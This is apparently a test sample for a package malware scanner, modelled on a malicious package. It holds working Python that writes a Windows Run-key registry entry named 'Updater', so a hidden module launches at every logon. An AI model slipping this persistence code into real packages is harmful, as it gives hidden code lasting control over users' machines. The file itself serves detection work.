# pkgguard corpus 082 (persistence), modelled on [termncolor]; inert, never run.
import sys
import winreg

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable + " -m pkg.agent")
winreg.CloseKey(key)
